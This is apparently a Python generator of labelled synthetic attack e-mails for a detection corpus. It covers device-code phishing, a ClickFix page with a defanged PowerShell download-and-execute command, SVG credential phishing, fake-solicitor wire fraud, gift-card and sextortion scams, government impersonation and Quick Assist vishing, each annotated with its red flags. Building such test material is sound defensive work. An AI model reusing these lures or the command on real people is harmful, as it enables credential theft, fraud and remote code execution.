"""English-language attack messages (09-16)."""
import html as _html
from lib import mk, Text, Att, alt, mixed, related, html_part, paras
from mime import T, sec, h, hn, uuid, fmt, ALNUM
from company import st, sa, BANK
from codes import iban_fmt, segwit_addr
import infra

F = "attack"


def build():
    # ------------------------------------------------------------ 09 device-code phishing, look-alike customer on M365
    t = T(2026, 11, 4, 13, 51, 26, "UK")
    p = infra.m365("a09", t, "northbridge-instruments.com", pod="AS8PR07", org_lang="en-GB")
    code = "GHK7QP2XD"
    txt = """Hi Emma,

Thanks again for sending over the Gold sponsorship package for the London MedTech Summit. Our procurement lead and our CFO would like to go through the deliverables with you before we sign - in particular the keynote slot and the lead-retrieval licences.

I have set up a secure Teams session for 14:00 today. Because your tenant blocks our external meeting invites, Microsoft support suggested joining through the device sign-in:

1. Go to https://microsoft.com/devicelogin
2. Enter the code: {code}
3. Sign in with your Example Group account - the meeting opens automatically.

The code is only valid for 15 minutes, so please do it as soon as you see this and I'll start the session on our side.

Kind regards,
James Whitfield
Head of Marketing EMEA
Northbridge Instruments Ltd
+44 20 7946 0381
""".format(code=code)
    htm = paras(txt).replace("https://microsoft.com/devicelogin",
                             '<a href="https://microsoft.com/devicelogin">https://microsoft.com/devicelogin</a>').replace(
        code, "<b style=\"font-size:16px;letter-spacing:2px\">%s</b>" % code)
    body = alt(Text(txt, "plain", "utf-8", "quoted-printable"), html_part(htm, "utf-8", lang="en"))
    mk(F, 9, "en", "device-code-teams", t=t, prof=p, order="ms", date_zone="UK",
       frm=("James Whitfield", "j.whitfield@northbridge-instruments.com"), to=[st("Emma")],
       subject="Sponsorship package review - Teams session today 14:00", body=body,
       what="'Customer' James Whitfield invites to a Teams review and asks to enter a code at microsoft.com/devicelogin.",
       why="Device-code phishing (Storm-2372 style): the code belongs to the attacker's sign-in session, entering it hands over Microsoft 365 tokens. Sender domain northbridge-instruments.com is a look-alike of the real customer northbridge-instruments.co.uk, on an attacker M365 tenant; 15-minute urgency.")

    # ------------------------------------------------------------ 10 ClickFix HTML attachment
    t = T(2026, 11, 12, 10, 6, 44, "UK")
    p = infra.own_postfix("a10", t, "mail.harbourside-cc-events.com", "164.92.187.31",
                          "harbourside-cc-events.com", "127.0.0.1|localhost", mid_style="generic",
                          rdns="164.92.187.31", helo="harbourside-cc-events.com", tzone="UK")
    p["client"] = ("harbourside-cc-events.com", "unknown", "164.92.187.31")
    txt = """Dear Oliver,

Please find attached revision 7 of the Hall N2 floor plan for the London MedTech Summit, including the revised fire lanes and the relocated catering points that the fire officer asked for on Tuesday.

The plan is an interactive file - please open it in your browser to view the stand allocation. Could you confirm by Friday noon that the stand numbering still matches your exhibitor list, so we can release it to the contractors?

Kind regards,

Rachel Moore
Event Operations Manager
Harbourside Convention Centre
"""
    cmd = 'powershell -w h -nop -c "iwr hxxps://cdn-floorplan-view[.]com/v7 -useb | iex"   # I am not a robot - Verification ID 482 917'
    page = """<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><title>Floorplan_Hall_N2_rev7 - Secure Viewer</title>
<style>body{{font-family:Segoe UI,Arial,sans-serif;background:#f3f3f3;margin:0}}
.box{{max-width:520px;margin:80px auto;background:#fff;border:1px solid #ddd;padding:28px;box-shadow:0 2px 6px rgba(0,0,0,.1)}}
.cmd{{font-family:Consolas,monospace;font-size:11px;background:#f7f7f7;border:1px solid #ccc;padding:8px;word-break:break-all;color:#777}}
ol li{{margin:8px 0}} .k{{border:1px solid #999;border-radius:3px;padding:1px 6px;background:#eee}}</style></head>
<body><div class="box">
<h2 style="margin-top:0">&#9745; Verify you are human</h2>
<p>Harbourside Secure Viewer needs to confirm that the document <b>Floorplan_Hall_N2_rev7.pdf</b> is being opened by a person. This protects our exhibitors' data.</p>
<p><b>Verification steps</b></p>
<ol><li>Press <span class="k">Windows</span> + <span class="k">R</span></li>
<li>Press <span class="k">Ctrl</span> + <span class="k">V</span> to paste the verification code</li>
<li>Press <span class="k">Enter</span></li></ol>
<p>Verification code (already copied to your clipboard):</p>
<div class="cmd">{cmd}</div>
<p style="font-size:12px;color:#888">Ray ID: 8f3a{ray} &middot; Performance &amp; security by Cloudflare</p>
</div></body></html>
""".format(cmd=_html.escape(cmd), ray=h("a10r", 12))
    body = mixed(Text(txt, "plain", "us-ascii", "7bit", csq=False),
                 Att(page.encode("utf-8"), "text/html", "Floorplan_Hall_N2_rev7.html", extra_ct="; charset=utf-8"))
    mk(F, 10, "en", "clickfix-floorplan-html", t=t, prof=p, date_zone="UK",
       frm=("Rachel Moore", "r.moore@harbourside-cc-events.com"), to=[st("Oliver")],
       subject="Hall N2 floor plan rev. 7 - London MedTech Summit", body=body,
       what="Venue 'floor plan' delivered as an HTML file that shows a fake 'verify you are human' page instructing Win+R / Ctrl+V / Enter.",
       why="ClickFix: the victim is made to paste and run a PowerShell download-and-execute command (defanged/inert here). Sender imitates the real venue contact r.moore@harbourside-cc.co.uk from the look-alike harbourside-cc-events.com on a DigitalOcean VPS without rDNS.")

    # ------------------------------------------------------------ 11 SVG remittance advice from compromised small business
    t = T(2026, 11, 19, 16, 22, 9, "UK")
    p = infra.cpanel_exim("a11", t, "uk42.cloudhostingserver.co.uk", "185.151.31.44",
                          "accounts@kestrel-displays.co.uk", "45.86.201.17", tzone="UK")
    url = "https://kestrel-displays.sharepoint-remit.com/doc/RA004719?c=" + h("a11c", 16)
    txt = """Hello,

Please find attached our remittance advice for the payment released today.

Payment ref: 004719
Amount: GBP 18,450.00
Value date: 19/11/2026

Kind regards

Sarah Collins
Accounts Payable
Kestrel Exhibition Displays Ltd
Unit 4, Brookfield Park, Reading RG2 0TD
"""
    svg = """<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="794" height="560" viewBox="0 0 794 560">
<rect width="794" height="560" fill="#ffffff"/>
<rect x="0" y="0" width="794" height="70" fill="#1f4e79"/>
<text x="30" y="44" font-family="Arial" font-size="24" fill="#ffffff">Kestrel Exhibition Displays Ltd - Remittance Advice</text>
<text x="30" y="120" font-family="Arial" font-size="15" fill="#222">Payee: Example Group UK Ltd</text>
<text x="30" y="148" font-family="Arial" font-size="15" fill="#222">Payment reference: 004719</text>
<text x="30" y="176" font-family="Arial" font-size="15" fill="#222">Amount: GBP 18,450.00</text>
<g filter="blur(2px)"><rect x="30" y="210" width="734" height="150" fill="#e9eef4"/>
<text x="50" y="250" font-family="Arial" font-size="13" fill="#9aa">Invoice        Date         Amount</text>
<text x="50" y="280" font-family="Arial" font-size="13" fill="#9aa">INV-26-1183    14/10/2026   18,450.00</text></g>
<a xlink:href="{url}" href="{url}" target="_blank">
<rect x="257" y="390" width="280" height="50" rx="6" fill="#0f6cbd"/>
<text x="397" y="421" text-anchor="middle" font-family="Arial" font-size="17" fill="#fff">View full remittance (secure)</text></a>
<text x="397" y="470" text-anchor="middle" font-family="Arial" font-size="11" fill="#888">Document protected by Microsoft 365. Sign in with your work account to view.</text>
</svg>
""".format(url=url)
    body = mixed(Text(txt, "plain", "us-ascii", "7bit", csq=False),
                 Att(svg.encode("utf-8"), "image/svg+xml", "Remittance_Advice_004719.svg"))
    mk(F, 11, "en", "svg-remittance-compromised-smb", t=t, prof=p, date_zone="UK",
       frm=("Kestrel Displays Accounts", "accounts@kestrel-displays.co.uk"), to=[st("Priya")],
       subject="Remittance Advice - Payment GBP 18,450.00 - Ref 004719", body=body,
       what="'Remittance advice' from a small UK display company's real mailbox with an SVG attachment rendering a blurred document and a 'View full remittance' button.",
       why="SVG phishing from a compromised third-party mailbox (cPanel login from a VPN IP): no such payment or business relationship, SVG link leads to a fake Microsoft 365 sign-in on sharepoint-remit.com (AiTM credential theft). SVG is used because gateways treat it as an image.")

    # ------------------------------------------------------------ 12 fake solicitor, escrow
    t = T(2026, 11, 24, 11, 38, 2, "UK")
    p = infra.own_postfix("a12", t, "mail.pemberton-hale-llp.com", "51.89.138.77", "pemberton-hale-llp.com",
                          "172.93.165.12|unknown", mid_style="outlook", rdns="ns3183422.ip-51-89-138.eu", tzone="UK",
                          auth="e.pemberton@pemberton-hale-llp.com")
    esc = BANK["mule_gb_escrow"]
    txt = """Dear Ms Shah,

I act for Example Group GmbH in connection with a confidential transaction (internally referred to as "Project Meridian") concerning the acquisition of a UK venue operator. Mr Jürgen Weiß has asked me to liaise with you directly, as the UK entity will fund the completion deposit in sterling.

The deposit of GBP 94,500.00 is to be placed in our client account today so that the exclusivity period can start before the seller's board meets tomorrow morning. Our client account details are:

Account name: Pemberton Hale LLP Client Account
Bank: HSBC UK Bank plc
Sort code: 40-05-15
Account number: 71046633
IBAN: {iban}
Reference: MERIDIAN/EG/2611

Both parties are bound by a non-disclosure agreement and the matter is price-sensitive. Please do not discuss it with colleagues in London or Frankfurt until the announcement; Mr Weiß will brief the finance team himself next week. Kindly confirm by reply once the transfer has been released and send me the payment confirmation.

Yours sincerely,

Edward Pemberton
Partner, Corporate & M&A
Pemberton Hale LLP
30 Old Broad Street, London EC2N 1HT
T: +44 20 7946 0912

Pemberton Hale LLP is authorised and regulated by the Solicitors Regulation Authority (SRA No. 8023917). This e-mail is confidential and may be legally privileged.
""".format(iban=iban_fmt(esc))
    body = alt(Text(txt, "plain", "windows-1252", "quoted-printable"), html_part(paras(txt), "windows-1252", lang="en"))
    mk(F, 12, "en", "fake-solicitor-escrow", t=t, prof=p, order="ms", date_zone="UK",
       frm=("Edward Pemberton", "e.pemberton@pemberton-hale-llp.com"), to=[st("Priya")],
       subject="Project Meridian - completion deposit (strictly confidential)", hcs="windows-1252", body=body,
       what="Self-styled M&A solicitor claims to act for the group on a secret acquisition and asks the UK accountant to wire a GBP 94,500 deposit to a 'client account'.",
       why="Fake-lawyer BEC (second stage of CEO fraud): unknown law firm domain on an OVH server, secrecy towards colleagues, same-day deadline, invocation of the CEO without any internal instruction, payment outside the approval chain.")

    # ------------------------------------------------------------ 13 gift cards
    t = T(2026, 12, 3, 9, 12, 50, "UK")
    p = infra.m365("a13", t, "outlook.com", pod="PAXP193", consumer=True, org_lang="en-GB")
    txt = """Emma,

Are you in the office this morning? I need a quick favour and I'm stuck in back-to-back meetings with the venue, so email only please.

I want to surprise the volunteers and the session chairs at the MedTech Summit with a small thank-you. Could you pick up 10 Apple gift cards at £100 each (Tesco or Boots nearby both have them)? Scratch off the back, take a clear photo of each card with the code visible and send them to me here - I'll hand them out personally tonight.

Keep the receipt, I'll have Priya reimburse you tomorrow. Please don't mention it to the team, it's meant to be a surprise.

Thanks,
Oliver

Sent from Outlook for iOS
"""
    body = alt(Text(txt, "plain", "utf-8", "base64"), html_part(paras(txt), "utf-8", "base64", lang="en"))
    mk(F, 13, "en", "gift-card-request", t=t, prof=p, order="ms", date_zone="UK",
       frm=("Oliver Hughes", "oliver.hughes.office@outlook.com"), to=[st("Emma")],
       subject="Quick favour", body=body,
       what="The London office manager's name on an outlook.com account asks a colleague to buy ten £100 Apple gift cards and e-mail photos of the codes.",
       why="Gift-card scam: free-mail impersonation of a manager, 'email only', secrecy ('surprise'), request for scratched card codes which are untraceable cash. Real gift purchases go through procurement (see business/16).")

    # ------------------------------------------------------------ 14 sextortion with bech32 address, spoofed self
    t = T(2026, 10, 29, 3, 17, 33, "UK")
    btc = segwit_addr("audit52-extortion-wallet")
    p = infra.own_postfix("a14", t, "mail.fazendasaojorge.com.br", "177.54.146.212", "example.com",
                          "127.0.0.1|localhost", mid_style="generic", rdns="177-54-146-212.static.ultrasul.net.br",
                          tzone="BR", helo="mail.fazendasaojorge.com.br")
    p["msgid"] = "<%s@example.com>" % h("a14m", 20, ALNUM)
    txt = """Hello Priya,

I have to share bad news with you. Approximately a few months ago I gained access to your devices, which you use for internet browsing. After that, I started tracking your internet activities.

Here is the sequence of events: some time ago you visited a website with adult content that was infected with my driver. The driver gave me access to your webcam and to everything on your screen. I made a video showing you on the left half of the screen and the video you were watching on the right half. I also copied your contacts, including your colleagues at work.

I am prepared to delete everything if you send me 1450 USD in Bitcoin. This is my Bitcoin address:

{btc}

You have 48 hours from the moment you open this email. I get a notification as soon as it is read. If I do not receive the payment, the video will be sent to all your contacts and colleagues.

Do not reply to this email, it was sent from your own mailbox, which shows that I have access to it. Do not try to contact the police, it will not help.
""".format(btc=btc)
    body = Text(txt, "plain", "us-ascii", "7bit", csq=False)
    mk(F, 14, "en", "sextortion-bitcoin", t=t, prof=p, date_zone="BR",
       frm=("", sa("Priya")), to=[("", sa("Priya"))],
       subject="Your account is compromised - payment overdue", body=body,
       what="Sextortion e-mail claiming webcam footage, demanding USD 1,450 to a Bitcoin (bech32) address within 48 hours.",
       why="Extortion scam: From spoofs the recipient's own address (sent from a Brazilian server, not the internal relay) to fake mailbox access; generic story, payment in crypto, threats.")

    # ------------------------------------------------------------ 15 Companies House / GOV.UK One Login phishing via SendGrid
    t = T(2026, 10, 15, 8, 3, 12, "UK")
    p = infra.sendgrid("a15", t)
    url = "https://companieshouse-filing.uk/one-login/sign-in?company=11938402&ref=" + h("a15r", 10).upper()
    txt = """Companies House

Confirmation statement overdue

Company name: EXAMPLE GROUP UK LIMITED
Company number: 11938402

Our records show that the confirmation statement for the above company, made up to 14 October 2026, has not been received. It is a criminal offence not to deliver a confirmation statement within 14 days of the end of the review period, and the company and its officers may be prosecuted. The registrar may also take action to strike the company off the register.

To avoid this, sign in with GOV.UK One Login and file the confirmation statement now. The filing fee of GBP 50 can be paid by card.

File now: {url}

If you have already filed, you can ignore this email.

Companies House
Crown Way, Cardiff CF14 3UZ
""".format(url=url)
    htm = """<div style="font-family:Arial,sans-serif;font-size:16px;color:#0b0c0c;max-width:580px">
<div style="background:#0b0c0c;color:#fff;padding:10px 15px;font-size:22px;font-weight:bold">GOV.UK</div>
<div style="border-left:10px solid #1d70b8;padding:5px 15px;margin:20px 0"><b style="font-size:20px">Confirmation statement overdue</b></div>
<p>Company name: <b>EXAMPLE GROUP UK LIMITED</b><br>Company number: <b>11938402</b></p>
<p>Our records show that the confirmation statement for the above company, made up to 14 October 2026, has not been received. It is a criminal offence not to deliver a confirmation statement within 14 days of the end of the review period, and the company and its officers may be prosecuted. The registrar may also take action to strike the company off the register.</p>
<p>To avoid this, sign in with GOV.UK One Login and file the confirmation statement now. The filing fee of &pound;50 can be paid by card.</p>
<p><a href="{url}" style="background:#00703c;color:#fff;padding:8px 14px;text-decoration:none;font-weight:bold">Sign in and file now</a></p>
<p style="font-size:14px">If you have already filed, you can ignore this email.</p>
<p style="font-size:14px">Companies House<br>Crown Way, Cardiff CF14 3UZ</p></div>""".format(url=url)
    body = alt(Text(txt, "plain", "utf-8", "quoted-printable"), html_part(htm, "utf-8", lang="en", style="margin:0"))
    mk(F, 15, "en", "companies-house-onelogin-phish", t=t, prof=p, date_zone="UTC",
       frm=("Companies House", "noreply@companieshouse-filing.uk"), to=[st("Priya")], cc=[st("Oliver")],
       mail_from="bounces+22719034-4f0a-priya.shah=example.com@em2291.companieshouse-filing.uk",
       subject="Action required: confirmation statement overdue - EXAMPLE GROUP UK LIMITED (11938402)",
       body=body,
       what="Companies House / GOV.UK lookalike notice: confirmation statement overdue, 'sign in with GOV.UK One Login and pay the £50 fee'.",
       why="Government-impersonation credential and card phishing via SendGrid; link to companieshouse-filing.uk (not gov.uk); prosecution/strike-off threat 1 day after the made-up date (the 14-day grace period has not even elapsed).")

    # ------------------------------------------------------------ 16 Teams / Quick Assist vishing pretext via Brevo
    t = T(2026, 12, 8, 9, 2, 47)
    p = infra.brevo("a16", t)
    txt = """Dear colleague,

Since this morning a number of Example Group mailboxes, including yours, have been targeted by a wave of automated newsletter sign-ups ("email bombing"). Our security partner is rolling out an additional filter rule to the affected accounts today.

To apply the rule, a member of the IT Service Desk will contact you via Microsoft Teams within the next hour. The chat will come from an external account shown as "Help Desk | Example Group IT". Please accept the chat request, then start Quick Assist (press Ctrl + Windows + Q) and share the 6-digit security code with the technician. The session takes about 10 minutes; please do not restart your computer in the meantime.

Until then, please do not unsubscribe from any of the unwanted newsletters, as the links may be malicious.

Thank you for your cooperation.

IT Service Desk
Example Group
"""
    body = alt(Text(txt, "plain", "utf-8", "quoted-printable"),
               html_part(paras(txt), "utf-8", lang="en"))
    mk(F, 16, "en", "teams-quick-assist-vishing", t=t, prof=p,
       frm=("Example Group IT Service Desk", "servicedesk@examplegroup-it.com"), to=[st("Julia")],
       mail_from="%s@bounces.examplegroup-it.com" % h("a16b", 24),
       subject="Spam wave on your mailbox - IT will contact you via Teams",
       body=body,
       what="'IT Service Desk' announces a Teams call from an external 'Help Desk' account that will ask the user to start Quick Assist and share the code.",
       why="Teams/remote-access vishing pretext (Black Basta / Storm-1811 pattern following e-mail bombing): external domain examplegroup-it.com via Brevo, tells the user to trust an external Teams account and grant remote control. Genuine IT uses internal relay and never initiates Quick Assist (see business/15).")
